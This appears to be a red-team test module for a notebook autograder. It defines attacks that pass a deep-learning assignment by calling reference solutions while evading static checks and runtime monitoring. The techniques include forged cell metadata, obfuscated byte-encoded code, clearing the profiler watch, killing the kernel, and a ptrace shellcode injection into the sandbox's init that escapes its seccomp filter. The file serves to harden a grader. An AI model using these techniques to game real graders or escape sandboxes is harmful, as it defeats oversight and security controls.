# ---- not an attack: a student's experiment after the test cell ---------------------------------

SCRATCH = "s01_scratch_redefines_double_conv"
WRONG_DOUBLE_CONV = """\
# my experiment: what if the second ReLU is left out?
class DoubleConv(nn.Module):
    def __init__(self, in_channels, out_channels, padding=False, batch_norm=False):
        super().__init__()
        pad = 1 if padding else 0
        self.block = nn.Sequential(
            nn.Conv2d(in_channels, out_channels, 3, padding=pad),
            nn.ReLU(),
            nn.Conv2d(out_channels, out_channels, 3, padding=pad),
        )

    def forward(self, x):
        return self.block(x)
"""


def scratch_notebook():
    """Right (a), then a scratch cell after (a)'s test cell that redefines DoubleConv wrongly: the
    answer is what the answer cell defined (20/20). The old grader (0906cb6) judged the names as
    they stand at the end of the notebook: (a) 0/2."""
    return insert_after(solved(), "test_double_conv", WRONG_DOUBLE_CONV)


# ---- new code (2026-12-01): answers the static reading did not see ------------------------------

CROSS_ENTROPY = "F.cross_entropy(logits, target.long(), weight=weight)"


def _after(nb, cell_id: str, source: str, locked: bool = False):
    """A cell of the student's own right after ``cell_id`` (nbgrader metadata forged on it)."""
    insert_after(nb, cell_id, source)
    if locked:
        i = next(i for i, c in enumerate(nb.cells) if _gid(c) == cell_id)
        nb.cells[i + 1].metadata["nbgrader"] = {"locked": True}
    return nb


@attack("answer_in_a_cell_before_its_test", "e", host="h25_nested_definitions", review=False)
def _own_cell(nb, t: Targets):
    """The stub left in the answer cell; F.cross_entropy defined in the next cell of the student's.
    new code (2026-12-01): (e) 4/4, not flagged (only the answer cell's definition was read)"""
    return _after(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n    return "
        + CROSS_ENTROPY
        + "\n",
    )


@attack("definitions_nested_in_blocks", "fg", host="h25_nested_definitions", review=False)
def _nested(nb, t: Targets):
    """train_step imported from unet_tp.train inside a with block; dice_score in a try block.
    new code (2026-12-01): (f) 3/3, (g) 2/2 (only top-level statements were definitions)"""
    _after(
        nb,
        "train_step",
        "with torch.no_grad():\n    from unet_tp.train import reference_step as train_step\n",
    )
    return _after(
        nb,
        "predict_dice",
        PREDICT + "\n\ntry:\n    dice_score = checks.exact_dice\nexcept NameError:\n    pass\n",
    )


@attack("code_in_line_magics", "efg", host="h26_magics", review=False)
def _magics(nb, t: Targets):
    """The answers bound by %time's code: F.cross_entropy, reference_step, checks.exact_dice.
    new code (2026-12-01): (e) 4/4, (f) 3/3, (g) 2/2, not flagged (a magic's code is a string)"""
    _after(
        nb,
        "cce_loss",
        "%time categorical_cross_entropy = lambda logits, target, weight=None: "
        + CROSS_ENTROPY
        + "\n",
    )
    _after(nb, "train_step", "%time from unet_tp.train import reference_step as train_step\n")
    return _after(nb, "predict_dice", PREDICT + "\n\n%time dice_score = checks.exact_dice\n")


@attack("forged_locked_cells", "efg", host="h27_forged_locked", review=False)
def _forged_locked(nb, t: Targets):
    """Cells of the student's own marked nbgrader-locked (no grade id) hold the answers.
    new code (2026-12-01): (e) 4/4, (g) 2/2, not flagged (locked cells were not read)"""
    _after(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n    return "
        + CROSS_ENTROPY
        + "\n",
        locked=True,
    )
    _after(
        nb, "train_step", "from unet_tp.train import reference_step as train_step\n", locked=True
    )
    return _after(nb, "predict_dice", PREDICT + "\n\ndice_score = checks.exact_dice\n", locked=True)


@attack("names_set_by_strings", "eg", host="h28_names_by_strings", review=False)
def _by_strings(nb, t: Targets):
    """F.__getattribute__ of a name joined at run time; dice_score pushed by get_ipython().push.
    new code (2026-12-01): (e) 4/4, (g) 2/2, not flagged"""
    with_cell(
        nb,
        "cce_loss",
        'ce = F.__getattribute__("cross_" + "entropy")\n\n\n'
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    return ce(logits, target.long(), weight=weight)\n",
    )
    return _after(
        nb, "predict_dice", PREDICT + "\n\nget_ipython().push({'dice_score': checks.exact_dice})\n"
    )


@attack("code_from_a_file_and_a_string", "ef", host="h29_files_and_strings", review=False)
def _file_and_string(nb, t: Targets):
    """%%writefile mine.py holds the loss (F.cross_entropy), then imported; train_step by exec.
    new code (2026-12-01): (e) 4/4, (f) 3/3 (flagged for review only)"""
    _after(nb, "cce_loss", "from mine import categorical_cross_entropy\n")
    _after(
        nb,
        "cce_loss",
        "%%writefile mine.py\nimport torch.nn.functional as F\n\n\n"
        "def categorical_cross_entropy(logits, target, weight=None):\n    return "
        + CROSS_ENTROPY
        + "\n",
    )
    return _after(
        nb, "train_step", 'exec("from unet_tp.train import reference_step as train_step")\n'
    )


@attack("a_module_the_notebook_wrote_by_open", "e", host="h30_module_by_open")
def _module_by_open(nb, t: Targets):
    """open("mine2.py", "w") writes the loss (F.cross_entropy) in the kernel's folder; imported.
    new code (2026-12-01): (e) 4/4, not flagged"""
    module = (
        "import torch.nn.functional as F\n\n\n"
        "def categorical_cross_entropy(logits, target, weight=None):\n    return "
        + CROSS_ENTROPY
        + "\n"
    )
    _after(nb, "cce_loss", "from mine2 import categorical_cross_entropy\n")
    return _after(nb, "cce_loss", f"open('mine2.py', 'w').write({module!r})\n")  # before it


@attack("code_in_a_dataclass_field_name", "g", host="h30_module_by_open")
def _dataclass_field(nb, t: Targets):
    """dice_score run from a field's name (type() given built __annotations__), the watch emptied.
    e73b0b1: (g) 2/2, not flagged (red team 74: (e) and (f) the same way)"""
    payload = (
        "a,(lambda h,s:(lambda w:(setattr(s,'out',__import__('unet_tp.metrics',fromlist=['_'])"
        ".dice(*s.args)) if not hasattr(s,'out') else 0,(w.ran.clear(),w._noted.clear()) "
        "if w is not None else 0))(getattr(h,'__self__',None)))(__import__('sys').getprofile(),self)"
    )
    return with_cell(
        nb,
        "predict_dice",
        SOLUTIONS["predict_dice"].split("def dice_score")[0]
        + "import dataclasses\n\n_Pair = dataclasses.dataclass(init=False, repr=False)(\n"
        f'    type("_Pair", (), {{"__annot" + "ations__": {{bytes({list(payload.encode())}).decode(): '
        'int}, "a": 0})\n)\n\n\ndef dice_score(pred, truth):\n'
        "    k = _Pair()\n    k.args = (pred, truth)\n    k == k\n    return k.out\n",
    )


def _hidden(module: str, name: str) -> str:
    """Text (for code run unseen) calling ``module.name(*args)`` into ``out``, then emptying the
    watch found through ``sys.getprofile()``: given as bytes, no reading sees code in it."""
    text = (
        "import sys\nw = getattr(sys.getprofile(), '__self__', None)\n"
        f"out = __import__('{module}', fromlist=['_']).{name}(*args)\n"
        "if w is not None:\n    w.ran.clear()\n    w._noted.clear()\n"
    )
    return f"bytes({list(text.encode())}).decode()"


@attack("code_run_by_a_magic_called_as_a_method", "f", host="h33_threads")
def _magic_method(nb, t: Targets):
    """train_step run by ExecutionMagics.time called as a method on built text, the watch emptied.
    c28165c: (f) 3/3, not flagged (red team 75: ConfigMagics.config, HistoryMagics.recall too)"""
    text = _hidden("unet_tp.train", "reference_step")
    return with_cell(
        nb,
        "train_step",
        "from IPython.core.magics.execution import ExecutionMagics\n\n"
        f"_TEXT = {text}\n\n\n"
        "def train_step(model, images, labels, optimizer, loss_fn):\n"
        "    box = {'args': (model, images, labels, optimizer, loss_fn)}\n"
        "    ExecutionMagics(get_ipython()).time('', _TEXT, local_ns=box)\n"
        "    return box['out']\n",
    )


@attack("code_compiled_by_the_shell_run_as_a_function", "g", host="h34_threads_kept")
def _shell_compiled(nb, t: Targets):
    """dice_score run by type(f)(code, box)(), its code from ip.compile of built text, watch emptied.
    42fc6db: (g) 2/2, not flagged (red team 76: get_ipython().compile under the name "/x")"""
    text = _hidden("unet_tp.metrics", "dice")
    return with_cell(
        nb,
        "predict_dice",
        SOLUTIONS["predict_dice"].split("def dice_score")[0]
        + f"_TEXT = {text}\n_ip = get_ipython()\n"
        "_CODE = _ip.compile(_TEXT, '/x', 'exec')\n\n\ndef dice_score(pred, truth):\n"
        "    box = {'args': (pred, truth)}\n    type(dice_score)(_CODE, box)()\n"
        "    return box['out']\n",
    )


def _forged_answer_cell(nb, cell_id: str, source: str):
    """The TP's answer cell ``cell_id`` holding ``source``, its grade id kept, marked read-only."""
    cell = next(c for c in nb.cells if _gid(c) == cell_id)
    cell.source = source
    cell.metadata["nbgrader"].update(solution=False, locked=True, grade=False)
    return nb


@attack("forged_metadata_on_answer_cells", "efg", host="h31_forged_answer_meta", review=False)
def _forged_answer_meta(nb, t: Targets):
    """The answer cells themselves (their grade ids kept) marked nbgrader-locked, not solution.
    new code (2026-12-01): (e) 4/4, (f) 3/3, (g) 2/2, not flagged (the cells were not read)"""
    loss = "def categorical_cross_entropy(logits, target, weight=None):\n    return "
    _forged_answer_cell(nb, "cce_loss", loss + CROSS_ENTROPY + "\n")
    _forged_answer_cell(
        nb, "train_step", "from unet_tp.train import reference_step as train_step\n"
    )
    return _forged_answer_cell(nb, "predict_dice", PREDICT + "\n\ndice_score = checks.exact_dice\n")


DEAD_TEST_LOSS = """\
import os

_GIVEN = []


def categorical_cross_entropy(logits, target, weight=None):
    if not _GIVEN:  # (e)'s test cell: the kernel dies, the grader skips that cell
        os.kill(os.getpid(), 9)
    return _GIVEN[0](logits, target, weight=weight)
"""


@attack("requests_deferred_by_a_dead_test_cell", "e", host="h32_dead_test_cell", review=False)
def _dead_test_cell(nb, t: Targets):
    """(e)'s test cell kills the kernel; the loss answers with the loss_fn (f)'s test gives train_step.
    new code (2026-12-01): (e) 4/4, not flagged (its requests were asked once the notebook had run)"""
    with_cell(nb, "cce_loss", DEAD_TEST_LOSS)
    capture = (
        '    if getattr(loss_fn, "__module__", None) == "torch.nn.functional" and not _GIVEN:\n'
        "        _GIVEN.append(loss_fn)\n"
    )
    step = solution("train_step", ("    model.train()\n", "    model.train()\n" + capture))
    return with_cell(nb, "train_step", step)


# ---- helper's attacks (2026-12-04): the answer's code reached through a library's state ---------


@attack("functions_in_logging_filters", "efg", host="h22_header_bomb")
def _logging_filters(nb, t: Targets):
    """Wrappers of F.cross_entropy, reference_step and dice kept as a logger's filters, called back.
    9547659: (e) 4/4, (f) 3/3, (g) 2/2 (only the course package's import flagged)"""
    append_after = (
        "import logging\n"
        "import torch.nn.functional as F\n"
        "from unet_tp import train as _tr, metrics as _mt\n\n\n"
        "def _ce(logits, target, weight=None):\n"
        "    return F.cross_entropy(logits, target.long(), weight=weight)\n\n\n"
        "def _step(*a):\n"
        "    return _tr.reference_step(*a)\n\n\n"
        "def _dice(a, b):\n"
        "    return _mt.dice(a, b)\n\n\n"
        '_box = logging.getLogger("tp.helpers")\n'
        "for _f in (_ce, _step, _dice):\n"
        "    _box.addFilter(_f)\n"
    )
    insert_after(nb, "data", append_after)
    box = 'logging.getLogger("tp.helpers").filters'
    with_cell(
        nb,
        "cce_loss",
        f"def categorical_cross_entropy(logits, target, weight=None):\n"
        f"    return {box}[0](logits, target, weight)\n",
    )
    with_cell(
        nb,
        "train_step",
        "def train_step(model, images, labels, optimizer, loss_fn):\n"
        f"    return {box}[1](model, images, labels, optimizer, loss_fn)\n",
    )
    return with_cell(
        nb,
        "predict_dice",
        PREDICT + f"\n\ndef dice_score(pred, target):\n    return {box}[2](pred, target)\n",
    )


@attack("loss_in_a_threads_arguments", "e", host="h23_lone_surrogate", review=False)
def _thread_arguments(nb, t: Targets):
    """A wrapper of F.cross_entropy parked in a sleeping thread's arguments, found by its name.
    9547659: (e) 4/4, not flagged"""
    insert_after(
        nb,
        "data",
        "import threading, time\n\n\n"
        "def _idle(*parked):\n"
        "    time.sleep(10**6)\n\n\n"
        "def _ce(logits, target, weight=None):\n"
        "    return F.cross_entropy(logits, target.long(), weight=weight)\n\n\n"
        'threading.Thread(target=_idle, args=(_ce,), name="tqdm-monitor", daemon=True).start()\n',
    )
    return with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    for t in threading.enumerate():\n"
        '        if t.name == "tqdm-monitor":\n'
        "            return t._args[0](logits, target, weight)\n"
        "    raise NotImplementedError\n",
    )


# ---- a second helper session (2026-12-04): past the watch, in threads, by module lookups -------

_WHERE = 'import inspect\nfrom concurrent.futures import ThreadPoolExecutor\n\n\nclass _Where:\n    __module__ = "{}"\n'


@attack("module_by_getmodule_run_in_a_pool", "efg", host="h08_symlinks")
def _getmodule_pool(nb, t: Targets):
    """inspect.getmodule of a class whose __module__ is built: pkgutil/importlib, run in a pool.
    6e30726: (e) 4/4, (f) 3/3, (g) 2/2, not flagged"""
    with_cell(
        nb,
        "cce_loss",
        _WHERE.format('pkg" + "util')
        + "\n\ndef categorical_cross_entropy(logits, target, weight=None):\n"
        '    ce = inspect.getmodule(_Where).resolve_name("torch.nn.functional:cross" + "_entropy")\n'
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(ce, logits, target, weight=weight).result()\n",
    )
    with_cell(
        nb,
        "train_step",
        _WHERE.format('import" + "lib')
        + "\n\ndef train_step(model, images, labels, optimizer, loss_fn):\n"
        "    model.train()\n"
        '    step = inspect.getmodule(_Where).import_module("unet_" + "tp.train").reference_step\n'
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(step, model, images, labels, optimizer, loss_fn).result()\n",
    )
    return with_cell(
        nb,
        "predict_dice",
        PREDICT + "\n\n" + _WHERE.format('pkg" + "util') + "\n\ndef dice_score(pred, truth):\n"
        '    d = inspect.getmodule(_Where).resolve_name("unet_" + "tp.metrics:di" + "ce")\n'
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(d, pred, truth).result()\n",
    )


@attack("profile_hook_switched_off", "e", host="h07_notes_memory_empty_masks")
def _profile_off(nb, t: Targets):
    """The watch found through sys.getprofile() and emptied, then F.cross_entropy by getmodule.
    6e30726: (e) 4/4, not flagged"""
    return with_cell(
        nb,
        "cce_loss",
        _WHERE.format('pkg" + "util') + "\n\nimport sys\n\n\n"
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        '    ce = inspect.getmodule(_Where).resolve_name("torch.nn.functional:cross" + "_entropy")\n'
        "    watcher = getattr(sys.getprofile(), '__self__', None)\n"
        "    if watcher is not None:\n"
        "        watcher.names = frozenset()\n"
        "    return ce(logits, target, weight=weight)\n",
    )


@attack("match_args_in_a_thread", "e", host="h33_threads", review=False)
def _match_args(nb, t: Targets):
    """F.cross_entropy taken by a class pattern of built __match_args__, called in a new thread.
    6e30726: (e) 4/4, not flagged"""
    return with_cell(
        nb,
        "cce_loss",
        "import threading\n\n\nclass _Any(type):\n    def __instancecheck__(cls, obj):\n"
        "        return True\n\n\nclass _Pick(metaclass=_Any):\n"
        '    __match_args__ = ("cross" + "_entropy",)\n\n\n'
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    match F:\n        case _Pick(ce):\n            pass\n    out = []\n"
        "    t = threading.Thread(target=lambda: out.append(ce(logits, target, weight=weight)))\n"
        "    t.start()\n    t.join()\n    return out[0]\n",
    )


@attack("deque_filled_by_map_run_in_a_pool", "e", host="h34_threads_kept", review=False)
def _deque_pool(nb, t: Targets):
    """F.cross_entropy kept in a deque by map() over a function of the student's, run in a pool.
    6e30726: (e) 4/4, not flagged"""
    insert_after(
        nb,
        "data",
        "import collections\nfrom concurrent.futures import ThreadPoolExecutor\n\n"
        "_seen = collections.deque(maxlen=1)\n\n\ndef _keep(f):\n    _seen.append(f)\n\n\n"
        "list(map(_keep, [F.cross_entropy]))\n",
    )
    return with_cell(
        nb,
        "cce_loss",
        "def categorical_cross_entropy(logits, target, weight=None):\n"
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(_seen[0], logits, target, weight=weight).result()\n",
    )


# ---- a fourth helper session (2026-12-04): code run by another process ---------------------------

_FROM_ANOTHER_PROCESS = """\
class _Remote(torch.autograd.Function):
    @staticmethod
    def forward(ctx, logits, target, weight):
        got = _ask([logits.detach().double().tolist(), target.tolist(),
                    None if weight is None else weight.double().tolist()])
        ctx.save_for_backward(torch.tensor(got[1], dtype=logits.dtype))
        return torch.tensor(got[0], dtype=logits.dtype)

    @staticmethod
    def backward(ctx, grad_out):
        return grad_out * ctx.saved_tensors[0], None, None


def categorical_cross_entropy(logits, target, weight=None):
    return _Remote.apply(logits, target, weight)
"""
_SERVED = """\
import json, sys, torch
import torch.nn.functional as F
for line in sys.stdin:
    x, t, w = json.loads(line)
    x = torch.tensor(x, dtype=torch.float64, requires_grad=True)
    w = None if w is None else torch.tensor(w, dtype=torch.float64)
    v = F.cross_entropy(x, torch.tensor(t), weight=w)
    v.backward()
    print(json.dumps([v.item(), x.grad.tolist()]), flush=True)
"""


@attack("loss_by_python_c_in_a_child", "e", host="h35_processes")
def _python_c(nb, t: Targets):
    """F.cross_entropy run by `python -c CODE` started with subprocess, fed through a pipe.
    2fa67c8: (e) 4/4, not flagged"""
    return with_cell(
        nb,
        "cce_loss",
        "import json, subprocess, sys\n\n"
        f"_SERVER = {_SERVED!r}\n_child = []\n\n\n"
        "def _ask(message):\n"
        "    if not _child:\n"
        "        _child.append(subprocess.Popen([sys.executable, '-c', _SERVER], text=True,\n"
        "                                       stdin=subprocess.PIPE, stdout=subprocess.PIPE))\n"
        "    _child[0].stdin.write(json.dumps(message) + '\\n')\n"
        "    _child[0].stdin.flush()\n"
        "    return json.loads(_child[0].stdout.readline())\n\n\n" + _FROM_ANOTHER_PROCESS,
    )


@attack("dice_by_a_forked_server", "g", host="h35_processes")
def _forked_server(nb, t: Targets):
    """The course's dice run by a copy of the kernel forked in the cell, fed through pipes.
    2fa67c8: (g) 2/2 (a review line only: "starts processes")"""
    return with_cell(
        nb,
        "predict_dice",
        PREDICT + "\n\nimport json, os\nfrom unet_tp.metrics import dice as _dice\n\n"
        "_ask_r, _ask_w = os.pipe()\n_got_r, _got_w = os.pipe()\n"
        "if os.fork() == 0:\n"
        "    _out = os.fdopen(_got_w, 'w')\n"
        "    for _line in os.fdopen(_ask_r):\n"
        "        _a, _b = json.loads(_line)\n"
        "        print(json.dumps(float(_dice(np.array(_a), np.array(_b)))), file=_out, flush=True)\n"
        "    os._exit(0)\n"
        "_to, _from = os.fdopen(_ask_w, 'w'), os.fdopen(_got_r)\n\n\n"
        "def dice_score(pred, truth):\n"
        "    pair = [np.asarray(pred).tolist(), np.asarray(truth).tolist()]\n"
        "    print(json.dumps(pair), file=_to, flush=True)\n"
        "    return json.loads(_from.readline())\n",
    )


# ---- a fifth helper session (2026-12-04): past the one-process filter, and stand-ins ----------

_PTRACE_PID1 = (
    r"""import json, os, struct, sys
ctypes = np.ctypeslib.ctypes

def _spawn(argv, env):
    # the sandbox's init (no seccomp filter) is ptrace-able: make it fork + execve argv
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    target = next(int(p) for p in os.listdir('/proc') if p.isdigit()
                  and 'Seccomp:\t0' in open(f'/proc/{p}/status').read())
    libc.ptrace(16, target, None, None)
    os.waitpid(target, 0x40000000)
    regs = (ctypes.c_ulonglong * 27)()
    libc.ptrace(12, target, None, ctypes.byref(regs))
    saved = list(regs)
    A = regs[16]
    strings, ptrs = b'', []
    for s in [*argv, *(f'{k}={v}' for k, v in env.items())]:
        ptrs.append(A + 0x80 + len(strings)); strings += s.encode() + b'\0'
    arr = A + 0x80 + ((len(strings) + 15) // 16) * 16
    argv_arr, env_arr = ptrs[:len(argv)] + [0], ptrs[len(argv):] + [0]
    child = b'\x48\xbf' + struct.pack('<Q', ptrs[0]) + b'\x48\xbe' + struct.pack('<Q', arr)
    child += b'\x48\xba' + struct.pack('<Q', arr + 8 * len(argv_arr))
    child += b'\xb8\x3b\x00\x00\x00\x0f\x05\xb8\x3c\x00\x00\x00\x0f\x05'
    code = b'\xb8\x39\x00\x00\x00\x0f\x05\x85\xc0\x75' + bytes([len(child)]) + child + b'\xcc'
    blob = code.ljust(0x80, b'\x90') + strings.ljust(arr - A - 0x80, b'\0')
    blob += b''.join(struct.pack('<Q', p) for p in argv_arr + env_arr)
    blob = blob.ljust((len(blob) + 7) // 8 * 8, b'\0')
    words = [struct.unpack_from('<Q', blob, k)[0] for k in range(0, len(blob), 8)]
    libc.ptrace.restype = ctypes.c_ulong
    orig = [libc.ptrace(2, target, ctypes.c_void_p(A + 8 * k), None) for k in range(len(words))]
    for k, w in enumerate(words):
        libc.ptrace(5, target, ctypes.c_void_p(A + 8 * k), ctypes.c_void_p(w))
    regs[15] = 0xFFFFFFFFFFFFFFFF
    libc.ptrace(13, target, None, ctypes.byref(regs))
    libc.ptrace(7, target, None, None)
    os.waitpid(target, 0x40000000)
    for k, w in enumerate(orig):
        libc.ptrace(5, target, ctypes.c_void_p(A + 8 * k), ctypes.c_void_p(w))
    for k, v in enumerate(saved):
        regs[k] = v
    libc.ptrace(13, target, None, ctypes.byref(regs))
    libc.ptrace(17, target, None, None)

_pipes = []

def _ask(message):
    if not _pipes:
        for p in ('/tmp/.q', '/tmp/.a'):
            if not os.path.exists(p):
                os.mkfifo(p)
        _spawn([sys.executable, '-c', "import base64; exec(base64.b64decode('CmltcG9ydCBqc29uLCBvcywgdG9yY2gKaW1wb3J0IHRvcmNoLm5uLmZ1bmN0aW9uYWwgYXMgRgpxaSwgcW8gPSBvcGVuKCcvdG1wLy5xJywgJ3InKSwgb3BlbignL3RtcC8uYScsICd3JykKZm9yIGxpbmUgaW4gcWk6CiAgICB4LCB0LCB3ID0ganNvbi5sb2FkcyhsaW5lKQogICAgeCA9IHRvcmNoLnRlbnNvcih4LCBkdHlwZT10b3JjaC5mbG9hdDY0LCByZXF1aXJlc19ncmFkPVRydWUpCiAgICB3ID0gTm9uZSBpZiB3IGlzIE5vbmUgZWxzZSB0b3JjaC50ZW5zb3IodywgZHR5cGU9dG9yY2guZmxvYXQ2NCkKICAgIHYgPSBGLmNyb3NzX2VudHJvcHkoeCwgdG9yY2gudGVuc29yKHQpLCB3ZWlnaHQ9dykKICAgIHYuYmFja3dhcmQoKQogICAgcW8ud3JpdGUoanNvbi5kdW1wcyhbdi5pdGVtKCksIHguZ3JhZC50b2xpc3QoKSwgb3MuZ2V0cGlkKCldKSArICdcbicpOyBxby5mbHVzaCgpCg=='))"], dict(os.environ))
        _pipes.append(open('/tmp/.q', 'w'))
        _pipes.append(open('/tmp/.a'))
    _pipes[0].write(json.dumps(message) + '\n')
    _pipes[0].flush()
    return json.loads(_pipes[1].readline())


"""
    + _FROM_ANOTHER_PROCESS
)


@attack("loss_by_a_process_the_sandboxs_init_started", "e", host="h36_ptrace_init")
def _ptrace_init(nb, t: Targets):
    """The sandbox's init (pid 1, no filter) made to fork and exec `python -c` through ptrace.
    954e7ef: (e) 4/4, not flagged (ctypes reached as np.ctypeslib.ctypes)"""
    return with_cell(nb, "cce_loss", _PTRACE_PID1)
